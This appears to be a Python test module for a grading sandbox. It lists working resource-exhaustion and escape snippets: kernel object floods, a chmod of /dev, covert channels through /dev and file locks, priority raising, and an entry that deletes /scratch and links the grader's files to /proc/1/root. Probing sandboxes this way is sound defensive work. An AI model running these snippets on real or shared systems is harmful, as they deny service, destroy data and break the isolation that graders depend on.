"""Taking what the kernel keeps for a process, and what no limit on memory or processes counts."""

from __future__ import annotations

from .base import ANY, Attack, looting
from .exhausting import TAKE
from .tools import ESCAPE, LIBC

FLOOD_MIB = 200  # what a submission must not get of any one kind of the kernel's memory


def _takes(name: str, tries: str, source: str) -> Attack:
    """`took(MiB)` says whether it may go on; more than FLOOD_MIB is an escape."""
    return Attack(name, tries, looting(f"{TAKE}{LIBC}LIMIT = {FLOOD_MIB}\n{source}"), allowed=ANY)


def _gets(name: str, tries: str, source: str) -> Attack:
    """An escape if `got` is true at the end."""
    end = "\nloot = (ESC if got else '') + f'got {got}'"
    return Attack(name, tries, looting(f"{ESCAPE}{LIBC}got = 0\n{source}{end}"), allowed=ANY)


ATTACKS = [
    _takes(
        "kernel-semaphores",
        "makes sets of 32,000 semaphores, which are in no process's memory",
        "while libc.semget(0, 32_000, 0o1600) >= 0 and took(2): pass",
    ),
    _takes(
        "kernel-queues",
        "fills System V message queues",
        """
message = ctypes.create_string_buffer(b"\\1" + b"x" * 8000)
while (queue := libc.msgget(0, 0o1600)) >= 0:
    for _ in range(200):
        if libc.msgsnd(queue, message, 7000, 0o4000) < 0: break
    if not took(1): break""",
    ),
    _takes(
        "kernel-posix-queues",
        "fills POSIX message queues",
        """
for number in range(20_000):
    if libc.mq_open(f"/{MARK}{number}".encode(), 0o102, 0o600, None) < 0 or not took(1): break""",
    ),
    _takes(
        "kernel-aio",
        "sets up rings for asynchronous reading",
        """
context = ctypes.c_ulong(0)
while libc.syscall(206, 60_000, ctypes.byref(context)) == 0 and took(8):
    context = ctypes.c_ulong(0)""",
    ),
    _takes(
        "kernel-inotify",
        "watches every file that it sees, many times",
        """
for _ in range(60):
    fd = libc.inotify_init1(0)
    if fd < 0: break
    for folder, _, names in os.walk("/usr/lib"):
        libc.inotify_add_watch(fd, folder.encode(), 0xFFF)
    if not took(4): break""",
    ),
    _takes(
        "kernel-inodes",
        "makes empty files, folders and links until a million of them stand somewhere",
        """
made = 0
for folder in ("/scratch", "/dev/shm", "/tmp", "/dev", "/run"):
    for number in range(250_000):
        try:
            os.symlink("x" * 3000, f"{folder}/{MARK}{number}")
        except OSError: break
        made += 1
        if made % 1000 == 0 and not took(5): break""",
    ),
    _takes(
        "kernel-pipes",
        "makes pipes as large as they can be, and fills them, in many processes",
        """
import fcntl
kept = []
try:
    while True:
        kept.append(os.pipe())
        fcntl.fcntl(kept[-1][1], 1031, 2**20)
        os.set_blocking(kept[-1][1], False)
        if not took(os.write(kept[-1][1], b"x" * 2**20) / 2**20): break
except OSError: pass""",
    ),
    _takes(
        "kernel-timers",
        "makes timers without end",
        """
identity = ctypes.c_void_p()
for number in range(2_000_000):
    if libc.timer_create(0, None, ctypes.byref(identity)) != 0: break
    if number % 4000 == 3999 and not took(1): break""",
    ),
    _takes(
        "kernel-descriptors",
        "opens event, timer, signal and process descriptors, pseudo-terminals and sockets",
        """
import socket
makers = (lambda: libc.eventfd(0, 0), lambda: libc.timerfd_create(0, 0), os.openpty,
          lambda: os.pidfd_open(os.getpid()), lambda: socket.socketpair())
kept = []
for make in makers:
    try:
        for _ in range(20_000):
            made = make()
            if made == -1: break
            kept.append(made)
            if len(kept) % 100 == 0 and not took(1): break
    except OSError: pass
for each in kept[:2]:
    del each
kept.clear()""",
    ),
    _takes(
        "kernel-mappings",
        "makes a mapping of its memory for each page",
        """
import mmap
kept = []
try:
    while len(kept) < 2_000_000:
        kept.append(mmap.mmap(-1, 4096, prot=(len(kept) % 2) * 2 + 1))
        if len(kept) % 4000 == 0 and not took(1): break
except (OSError, ValueError): pass""",
    ),
    _gets(
        "kernel-huge-mapping",
        "maps ten terabytes that it does not use yet",
        "libc.mmap.restype = ctypes.c_void_p\n"
        "at = libc.mmap(None, ctypes.c_size_t(10 * 2**40), 3, 0x4022, -1, ctypes.c_long(0))\n"
        "got = at not in (None, 2**64 - 1)",
    ),
    _takes(
        "kernel-shared-mappings",
        "fills anonymous memory that it shares with its children",
        """
import mmap
LIMIT = 3_500
kept = []
try:
    while took(50):
        kept.append(mmap.mmap(-1, 50 * 2**20))
        kept[-1].write(b"x" * (50 * 2**20))
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
except (OSError, ValueError, MemoryError): pass""",
    ),
    _gets(
        "dev-closed",
        "takes /dev away from all who come later",
        "for mode in (0, 0o777):\n    try:\n        os.chmod('/dev', mode)\n        got += 1\n"
        "    except OSError: pass",
    ),
    _gets(
        "dev-channel",
        "leaves its answers in /dev, /proc and beside Python for those who come later",
        "for folder in ('/dev', '/dev/pts', '/dev/mqueue', '/proc', '/', '/course', '/usr/lib'):\n"
        "    try:\n        open(f'{folder}/{MARK}-left', 'w').write('x')\n        got += 1\n"
        "    except OSError: pass",
    ),
    _takes(
        "dev-filled",
        "fills /dev with files",
        "for number in range(100):\n    try:\n"
        "        open(f'/dev/{MARK}{number}', 'wb').write(b'x' * 10 * 2**20)\n"
        "    except OSError: break\n    if not took(10): break",
    ),
    _gets(
        "locks-channel",
        "locks Python's own files, which others on this machine can notice",
        """
import fcntl, json, struct
for lock in (lambda fd: fcntl.flock(fd, fcntl.LOCK_EX), lambda fd: fcntl.lockf(fd, fcntl.LOCK_SH),
             lambda fd: fcntl.fcntl(fd, 37, struct.pack("hhqqi", 0, 0, 0, 0, 0)),
             lambda fd: fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK),
             lambda fd: fcntl.fcntl(fd, fcntl.F_NOTIFY, 1)):
    for path in (json.__file__, os.path.dirname(json.__file__)):
        try:
            lock(os.open(path, os.O_RDONLY))
            got += 1
        except OSError: pass""",
    ),
    _gets(
        "priority",
        "makes itself more important than everything else on the machine",
        "for claim in (lambda: os.nice(-15), lambda: os.setpriority(0, 0, -15),\n"
        "              lambda: os.sched_setscheduler(0, 1, os.sched_param(50))):\n"
        "    try:\n        claim()\n        got += 1\n    except OSError: pass",
    ),
    _gets(
        "kernel-rules",
        "makes sets of 65,536 access rules each, which are in no process's memory",
        """
import struct
handled = struct.pack("QQ", 0, 3)  # binding and connecting
rules = libc.syscall(444, handled, 16, 0)
while got < 65_536:
    if libc.syscall(445, rules, 2, struct.pack("QQ", 1, got), 0) != 0: break
    got += 1""",
    ),
    _gets(
        "kernel-filters",
        "has the kernel keep programs of its own, for its calls and for its sockets",
        """
import socket, struct
program = struct.pack("HBBI", 6, 0, 0, 0x7FFF0000)
code = ctypes.create_string_buffer(program * 1000)
filter = struct.pack("HxxxxxxQ", 1000, ctypes.addressof(code))
ends = socket.socketpair()
for option in (26, 51):  # SO_ATTACH_FILTER and SO_ATTACH_REUSEPORT_CBPF
    try:
        ends[0].setsockopt(socket.SOL_SOCKET, option, filter)
        got += 1
    except OSError: pass
got += libc.prctl(22, 2, filter) == 0  # PR_SET_SECCOMP
got += libc.syscall(317, 1, 0, filter) == 0  # seccomp""",
    ),
    _gets(
        "kernel-families",
        "makes pairs of sockets of every family that the kernel knows or can load",
        """
for family in [*range(2, 64)]:
    for kind in (1, 2, 3, 5):
        code = libc.socketpair(family, kind, 0, (ctypes.c_int * 2)())
        got += code == 0 or ctypes.get_errno() != 1  # the kernel itself was asked""",
    ),
    _gets(
        "kernel-log",
        "reads the log of the machine's kernel",
        "text = ctypes.create_string_buffer(1000)\n"
        "for action in (3, 9, 10):\n    got += libc.klogctl(action, text, 1000) >= 0",
    ),
    _gets(
        "machine-synced",
        "has the whole machine write all of its files to disk, again and again",
        "got = sum(libc.syncfs(os.open(place, os.O_RDONLY)) == 0 for place in ('/', '/usr/lib'))",
    ),
    _gets(
        "core-dump",
        "leaves core dumps behind, as files or with the program of root that takes them",
        """
import resource
for most in (2**31, 0):  # of 1 the kernel makes none at all; with 0 it still asks that program
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (most, 1))
        got += 1
    except (OSError, ValueError): pass
got += resource.getrlimit(resource.RLIMIT_CORE)[1] not in (0, 1)
if os.fork() == 0:
    os.abort()""",
    ),
    _gets(
        "scratch-tricks",
        "leads the grader out of its own folder by links, in place of its own files",
        "os.chdir('/')\nimport shutil\nshutil.rmtree('/scratch', ignore_errors=True)\n"
        "for name in ('class', 'results.jsonl', 'torch', 'inside'):\n"
        "    try: os.symlink('/proc/1/root', f'/scratch/{name}')\n    except OSError: pass\n"
        "try:\n    os.listdir('/proc/1/root/home')\n    got = 1\nexcept OSError: pass",
    ),
]
